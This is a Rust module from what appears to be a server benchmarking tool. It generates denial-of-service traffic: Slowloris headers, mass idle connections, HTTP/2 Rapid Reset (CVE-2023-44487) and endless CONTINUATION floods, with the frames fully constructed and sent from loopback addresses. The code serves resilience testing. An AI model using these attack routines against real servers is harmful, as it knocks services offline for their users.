//! Attackers: clients that hold on to connections, or make work with the frames of HTTP/2, at a fixed pace.
//!
//! Invariant: every server is attacked with the same connections and the same bytes at the same pace; a connection that
//! the server ends is opened again with the next beat, as an attacker would. The pace is moderate, so that attackers
//! leave the CPU of the load generator to the client that is measured ([`crate::latency`]). They come from several
//! addresses, none of them the client's: limits for each client are no defence, and not the client's concern.

use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, AtomicUsize, Ordering};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

use rustix::net;

use crate::client::http2;
use crate::load::HOST;
use crate::peer::Protocol;
use crate::{Error, machine};

/// How long attackers may take to be there.
const PATIENCE: Duration = Duration::from_secs(20);

/// The addresses they come from: 127.0.1.1 and so many that follow.
const SOURCES: u8 = 16;

/// Frames, or pairs of frames, in one write.
const BATCH: usize = 32;

/// What attackers do.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Heads that come byte by byte and never end.
    Slowloris,
    /// Connections that asked once and then stay.
    Idle,
    /// Requests over HTTP/2 that are reset at once (CVE-2023-44487).
    RapidReset,
    /// A head over HTTP/2 that is continued for ever (CVE-2024-27316 and others).
    Continuation,
}

impl Attack {
    /// All of them.
    pub const ALL: [Self; 4] = [Self::Slowloris, Self::Idle, Self::RapidReset, Self::Continuation];

    /// The name in reports.
    #[must_use]
    pub const fn name(self) -> &'static str {
        match self {
            Self::Slowloris => "1,000 heads that come byte by byte",
            Self::Idle => "4,000 idle connections",
            Self::RapidReset => "rapid reset, 10 connections of HTTP/2",
            Self::Continuation => "endless CONTINUATION, 10 connections of HTTP/2",
        }
    }

    /// What it is done over.
    #[must_use]
    pub const fn protocol(self) -> Protocol {
        match self {
            Self::Slowloris | Self::Idle => Protocol::Http1,
            Self::RapidReset | Self::Continuation => Protocol::Http2,
        }
    }

    /// Connections that are open at once.
    #[must_use]
    pub const fn connections(self) -> usize {
        match self {
            Self::Slowloris => 1000,
            Self::Idle => 4000,
            Self::RapidReset | Self::Continuation => 10,
        }
    }

    /// Between two writes on a connection.
    const fn beat(self) -> Duration {
        match self {
            Self::Slowloris | Self::Idle => Duration::from_millis(500),
            Self::RapidReset | Self::Continuation => Duration::from_millis(10),
        }
    }

    /// What a connection begins with.
    fn opening(self, path: &str) -> Vec<u8> {
        match self {
            Self::Slowloris => format!("GET {path} HTTP/1.1\r\nHost: {HOST}\r\nX-Slow: ").into_bytes(),
            Self::Idle => format!("GET {path} HTTP/1.1\r\nHost: {HOST}\r\n\r\n").into_bytes(),
            Self::RapidReset => http2::opening(),
            Self::Continuation => {
                let mut bytes = http2::opening();
                http2::frame(&mut bytes, http2::HEADERS, http2::END_STREAM, 1, &http2::request(path));
                bytes
            }
        }
    }

    /// What it goes on with; `stream` is the next that may be opened.
    fn more(self, path: &str, stream: &mut u32) -> Vec<u8> {
        let mut bytes = Vec::new();
        match self {
            Self::Slowloris => bytes.push(b'x'),
            Self::Idle => {}
            Self::RapidReset => {
                // What is not stored: an answer from memory would be there before the reset.
                let request = http2::request(&format!("{path}/none"));
                for _ in 0..BATCH {
                    let flags = http2::END_STREAM | http2::END_HEADERS;
                    http2::frame(&mut bytes, http2::HEADERS, flags, *stream, &request);
                    http2::frame(&mut bytes, http2::RST_STREAM, 0, *stream, &8_u32.to_be_bytes());
                    *stream += 2;
                }
            }
            Self::Continuation => {
                for _ in 0..BATCH {
                    // A literal field without indexing: `x: y`.
                    http2::frame(&mut bytes, http2::CONTINUATION, 0, 1, b"\x00\x01x\x01y");
                }
            }
        }
        bytes
    }
}

/// Attackers at work. They stop when the value is dropped.
#[derive(Debug)]
pub struct Attackers {
    shared: Arc<Shared>,
    thread: Option<JoinHandle<()>>,
}

#[derive(Debug, Default)]
struct Shared {
    stop: AtomicBool,
    /// Connections that were opened for the first time.
    there: AtomicUsize,
    ended: AtomicU64,
}

impl Attackers {
    /// Begins, and returns when each connection was opened once.
    ///
    /// # Errors
    /// When they cannot be opened.
    pub fn begin(attack: Attack, address: SocketAddr, path: &str, cpu: usize) -> Result<Self, Error> {
        let shared = Arc::<Shared>::default();
        let (own, path) = (Arc::clone(&shared), path.to_owned());
        let thread = thread::spawn(move || {
            machine::pin(cpu);
            run(attack, address, &path, &own);
        });
        let attackers = Self {
            shared,
            thread: Some(thread),
        };
        let deadline = Instant::now() + PATIENCE;
        while attackers.shared.there.load(Ordering::Relaxed) < attack.connections() {
            if Instant::now() > deadline {
                let refused = std::io::Error::other("not all connections could be opened");
                return Err(Error::io(format!("attacking {address}"))(refused));
            }
            pause(Duration::from_millis(5));
        }
        Ok(attackers)
    }

    /// Connections that the server has ended so far.
    #[must_use]
    pub fn ended(&self) -> u64 {
        self.shared.ended.load(Ordering::Relaxed)
    }
}

impl Drop for Attackers {
    fn drop(&mut self) {
        self.shared.stop.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            // A panic of an attacker was printed, and the figures say that none was left.
            let _ended = thread.join();
        }
    }
}

/// One connection of an attacker.
struct Open {
    stream: TcpStream,
    unsent: Vec<u8>,
    /// The next stream of HTTP/2.
    next: u32,
}

impl Open {
    /// Goes on with it. False when the server has ended it.
    fn beat(&mut self, attack: Attack, path: &str) -> bool {
        let mut buffer = [0; 16 * 1024];
        loop {
            match self.stream.read(&mut buffer) {
                Ok(0) => return false,
                Ok(_) => {}
                Err(error) if error.kind() == ErrorKind::WouldBlock => break,
                Err(_) => return false,
            }
        }
        if self.unsent.is_empty() {
            self.unsent = attack.more(path, &mut self.next);
        }
        match self.stream.write(&self.unsent) {
            Ok(sent) => drop(self.unsent.drain(..sent)),
            Err(error) if error.kind() == ErrorKind::WouldBlock => {}
            Err(_) => return false,
        }
        true
    }
}

fn run(attack: Attack, address: SocketAddr, path: &str, shared: &Shared) {
    let mut slots: Vec<Option<Open>> = (0..attack.connections()).map(|_| None).collect();
    let mut first = true;
    while !shared.stop.load(Ordering::Relaxed) {
        for (n, slot) in slots.iter_mut().enumerate() {
            if slot.is_none()
                && let Ok(stream) = connect_from(n, address)
                && stream.set_nonblocking(true).is_ok()
            {
                *slot = Some(Open {
                    stream,
                    unsent: attack.opening(path),
                    next: 1,
                });
            }
            let Some(open) = slot else { continue };
            if first {
                shared.there.fetch_add(1, Ordering::Relaxed);
            }
            if !open.beat(attack, path) {
                *slot = None;
                shared.ended.fetch_add(1, Ordering::Relaxed);
            }
        }
        first = false;
        pause(attack.beat());
    }
}

/// Connects from one of the attackers' addresses.
fn connect_from(n: usize, address: SocketAddr) -> std::io::Result<TcpStream> {
    let last = (n % usize::from(SOURCES)) as u8 + 1;
    let socket = net::socket(net::AddressFamily::INET, net::SocketType::STREAM, None)?;
    net::bind(&socket, &SocketAddr::from(([127, 0, 1, last], 0)))?;
    net::connect(&socket, &address)?;
    let stream = TcpStream::from(socket);
    stream.set_nodelay(true)?;
    Ok(stream)
}

#[expect(
    clippy::disallowed_methods,
    reason = "the pace of an attack: there is nothing to await"
)]
fn pause(time: Duration) {
    thread::sleep(time);
}

#[cfg(test)]
mod tests {
    use std::net::TcpListener;

    use super::*;

    #[test]
    fn a_connection_that_is_ended_is_counted_and_opened_again() {
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
        let address = listener.local_addr().expect("address");
        let server = thread::spawn(move || {
            for _ in 0..Attack::RapidReset.connections() * 2 {
                drop(listener.accept());
            }
        });
        let attackers = Attackers::begin(Attack::RapidReset, address, "/a", 0).expect("they are there");
        server.join().expect("all came twice");
        assert!(attackers.ended() > 0);
    }

    #[test]
    fn the_frames_of_an_attack_are_what_its_name_says() {
        let mut stream = 1;
        let bytes = Attack::RapidReset.more("/a", &mut stream);
        assert_eq!(stream, 1 + 2 * BATCH as u32);
        assert_eq!(bytes[3], http2::HEADERS);
        assert!(bytes.ends_with(&8_u32.to_be_bytes()));
        let endless = Attack::Continuation.more("/a", &mut stream);
        assert_eq!(
            (endless[3], endless[4]),
            (http2::CONTINUATION, 0),
            "it does not end the head"
        );
    }
}
